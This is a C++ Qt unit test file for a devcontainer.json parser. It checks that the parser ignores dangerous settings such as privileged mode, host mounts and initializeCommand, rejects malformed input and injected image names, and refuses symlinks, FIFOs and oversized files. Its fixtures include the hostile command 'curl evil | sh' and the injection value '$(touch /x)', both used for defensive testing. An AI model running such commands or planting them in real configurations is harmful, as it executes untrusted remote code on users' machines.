#include "core/settings/devcontainer.h"

#include <QTemporaryDir>
#include <QTest>

#include <filesystem>
#include <fstream>
#include <sys/stat.h>
#include <unistd.h>

using namespace vouchsafe;
namespace fs = std::filesystem;

namespace {

DevContainer parsed(const std::string &text)
{
    return parseDevContainer(text).value();
}

void write(const fs::path &file, const std::string &text)
{
    fs::create_directories(file.parent_path());
    std::ofstream(file) << text;
}

} // namespace

class DevContainerTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void takesTheImage()
    {
        QCOMPARE(parsed(R"({"name":"x","image":"python:3.11-bookworm"})"),
                 (DevContainer{"python:3.11-bookworm", "", {}}));
    }

    void readsCommentsAndTrailingCommas()
    {
        const DevContainer found =
            parsed("// a line\n{ /* a, block */ \"image\": \"a/b:1\", // \"image\": \"c\"\n"
                   "  \"customizations\": {\"x\": [1, 2, /* y */ ], },\n}\n");
        QCOMPARE(found, (DevContainer{"a/b:1", "", {}}));
    }

    void leavesTextInQuotesAlone()
    {
        const std::string text = "{\"name\":\"// no \\\" comment, ]\",\"image\":\"a//b:1\",}";
        QCOMPARE(parsed(text).image, std::string("a//b:1"));
    }

    void namesWhatItDoesNotDo()
    {
        const DevContainer found = parsed(R"({
            "image": "x", "privileged": true, "mounts": ["source=/,target=/host,type=bind"],
            "runArgs": ["--network=host"], "capAdd": ["SYS_PTRACE"], "securityOpt": ["seccomp=unconfined"],
            "initializeCommand": "curl evil | sh", "postCreateCommand": ["pip", "install"],
            "features": {"ghcr.io/x:1": {}}, "forwardPorts": [1], "customizations": {"vscode": {}}})");
        QCOMPARE(found.ignored,
                 (std::vector<std::string>{"initializeCommand", "privileged", "mounts", "runArgs", "capAdd",
                                           "securityOpt", "features", "postCreateCommand"}));
    }

    void isSilentAboutWhatAsksForNothing()
    {
        QVERIFY(parsed(R"({"image":"x","privileged":false,"mounts":[],"features":{},"runArgs":null})")
                    .ignored.empty());
        // A count of 0 or a text is still somebody's wish.
        QCOMPARE(parsed(R"({"privileged":0})").ignored, (std::vector<std::string>{"privileged"}));
    }

    void findsTheDockerfileInBothForms()
    {
        QCOMPARE(parsed(R"({"build":{"dockerfile":"Dockerfile"}})").dockerfile, std::string("Dockerfile"));
        QCOMPARE(parsed(R"({"dockerFile":"../Dockerfile"})").dockerfile, std::string("../Dockerfile"));
    }

    void takesNoImageThatIsNone_data()
    {
        QTest::addColumn<QByteArray>("image");
        for (const char *image :
             {"${localEnv:IMAGE}", "--privileged", "a b", "python=x", "a\\nb", "$(touch /x)"})
            QTest::newRow(image) << QByteArray(image);
    }
    void takesNoImageThatIsNone()
    {
        QFETCH(QByteArray, image);
        const DevContainer found = parsed("{\"image\":\"" + image.toStdString() + "\"}");
        QCOMPARE(found.image, std::string());
        QCOMPARE(found.ignored, (std::vector<std::string>{"image"}));
    }

    void refusesWhatIsNoObject()
    {
        for (const char *text : {"", "[]", "{", "\"x\"", "/*", "{\"image\":\"x\"", "{,}x"})
            QVERIFY2(!parseDevContainer(text), text);
        // Wrong types are no image and no fault.
        QCOMPARE(parsed(R"({"image":["x"],"build":"y","dockerFile":3})"), DevContainer());
        QVERIFY(!parseDevContainer(std::string(100'000, '[')));
    }

    void looksInTheThreePlaces()
    {
        QTemporaryDir folder;
        const fs::path root = folder.path().toStdString();
        QCOMPARE(findDevContainer(root), DevContainerFile());
        write(root / ".devcontainer/go/devcontainer.json", "go");
        QCOMPARE(findDevContainer(root), (DevContainerFile{".devcontainer/go/devcontainer.json", "go", ""}));
        write(root / ".devcontainer/rust/devcontainer.json", "rust");
        const DevContainerFile several = findDevContainer(root);
        QVERIFY(several.text.empty() && several.notice.find("go, rust") != std::string::npos);
        write(root / ".devcontainer.json", "dot");
        QCOMPARE(findDevContainer(root), (DevContainerFile{".devcontainer.json", "dot", ""}));
        write(root / ".devcontainer/devcontainer.json", "in");
        QCOMPARE(findDevContainer(root), (DevContainerFile{".devcontainer/devcontainer.json", "in", ""}));
    }

    void readsNothingThroughALinkAndNoFifo()
    {
        QTemporaryDir folder;
        const fs::path root = fs::path(folder.path().toStdString()) / "repo";
        write(root / ".." / "secret.json", R"({"image":"x"})");
        fs::create_directories(root);
        fs::create_symlink("../secret.json", root / ".devcontainer.json");
        QVERIFY(findDevContainer(root).text.empty());
        QVERIFY(!findDevContainer(root).notice.empty());
        fs::remove(root / ".devcontainer.json");
        QCOMPARE(::mkfifo((root / ".devcontainer.json").c_str(), 0600), 0);
        QVERIFY(!findDevContainer(root).notice.empty());
        fs::remove(root / ".devcontainer.json");
        fs::create_directories(root / ".." / "elsewhere");
        write(root / ".." / "elsewhere/devcontainer.json", "{}");
        fs::create_symlink("../elsewhere", root / ".devcontainer");
        QCOMPARE(findDevContainer(root), DevContainerFile());
        write(root / ".devcontainer.json", std::string(300 << 10, ' '));
        QVERIFY(findDevContainer(root).notice.find("256 KiB") != std::string::npos);
    }
};

QTEST_GUILESS_MAIN(DevContainerTest)
#include "devcontainer_test.moc"
